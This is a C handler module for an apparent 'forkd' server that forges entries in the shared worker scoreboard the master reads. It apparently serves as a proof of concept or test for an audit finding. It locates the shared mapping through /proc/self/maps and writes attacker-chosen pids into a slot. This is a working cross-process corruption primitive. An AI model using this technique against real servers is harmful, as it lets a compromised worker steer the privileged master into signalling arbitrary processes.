/* sb_forge: a handler that writes the scoreboard the master reads (issue
 * 11, finding 3), as any code running as the workers' user could.
 * Compiled with -I server/ for struct sb_slot and struct sb_thread.
 *
 *   /forge?pid=N&mode=last  fake a busy worker in the last slot
 *                           (SB_SLOTS - 1): pid N, SB_IDLE, one thread
 *                           whose request started at 1 ms (long ago);
 *   /forge?pid=N&mode=own   put N in place of this worker's own pid.
 *
 * The scoreboard is one MAP_SHARED|MAP_ANONYMOUS mapping ("/dev/zero
 * (deleted)", rw-s in /proc/self/maps) of SB_SLOTS slots followed by
 * SB_SLOTS x T thread entries; it is told from other shared mappings by a
 * slot holding this worker's pid.  Answers 200 "forged", or "nomap" when
 * no writable scoreboard is found (a server that no longer shares it). */
#include <forkd.h>

#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "scoreboard.h"

#define SB_SLOTS 1024 /* MASTER_MAX_WORKERS */

static int
forge_answer(struct forkd_req *req, const char *text)
{
    char len[32];

    snprintf(len, sizeof len, "%zu", strlen(text));
    struct forkd_header h[] = {{"Content-Type", "text/plain"},
                               {"Content-Length", len}};
    if (forkd_start_response(req, "200 OK", h, 2) != 0)
        return -1;
    return forkd_write(req, text, strlen(text)) < 0 ? -1 : 0;
}

/* The scoreboard's base and thread count, or NULL. */
static char *
forge_find(size_t *n_threads, struct sb_slot **own)
{
    FILE *f = fopen("/proc/self/maps", "r");
    char line[512];
    char *found = NULL;
    size_t slots = SB_SLOTS * sizeof(struct sb_slot);

    if (f == NULL)
        return NULL;
    while (found == NULL && fgets(line, sizeof line, f) != NULL) {
        unsigned long lo, hi;
        char perms[8];
        if (sscanf(line, "%lx-%lx %7s", &lo, &hi, perms) != 3 ||
            strcmp(perms, "rw-s") != 0 || strstr(line, "/dev/zero") == NULL)
            continue;
        size_t len = hi - lo;
        if (len < slots + SB_SLOTS * sizeof(struct sb_thread))
            continue;
        struct sb_slot *s = (struct sb_slot *)lo;
        for (size_t i = 0; i < SB_SLOTS; i++) {
            if (s[i].pid == getpid()) {
                *own = &s[i];
                *n_threads =
                    (len - slots) / (SB_SLOTS * sizeof(struct sb_thread));
                found = (char *)lo;
                break;
            }
        }
    }
    fclose(f);
    return found;
}

static int
forge_handle(struct forkd_req *req, void *state)
{
    const char *q = forkd_getenv(req, "QUERY_STRING");
    const char *p = q ? strstr(q, "pid=") : NULL;
    long pid = p ? strtol(p + 4, NULL, 10) : 0;
    int own_mode = q && strstr(q, "mode=own") != NULL;
    struct sb_slot *own = NULL;
    size_t n_threads = 0;
    char *base;

    (void)state;
    if (pid <= 1)
        return forge_answer(req, "no pid\n");
    if ((base = forge_find(&n_threads, &own)) == NULL || n_threads == 0)
        return forge_answer(req, "nomap\n");
    if (own_mode) {
        own->pid = (pid_t)pid;
        return forge_answer(req, "forged\n");
    }
    struct sb_slot *s = (struct sb_slot *)base + (SB_SLOTS - 1);
    struct sb_thread *t =
        (struct sb_thread *)(base + SB_SLOTS * sizeof(struct sb_slot)) +
        (SB_SLOTS - 1) * n_threads;
    snprintf(t->request, sizeof t->request, "GET /forged");
    t->req_start_ms = 1;
    s->n_threads = 1;
    s->state = SB_IDLE;
    s->pid = (pid_t)pid;
    return forge_answer(req, "forged\n");
}

const struct forkd_app forkd_app = {
    .api_version = FORKD_API_VERSION,
    .flags = FORKD_APP_THREADSAFE,
    .handle = forge_handle,
};
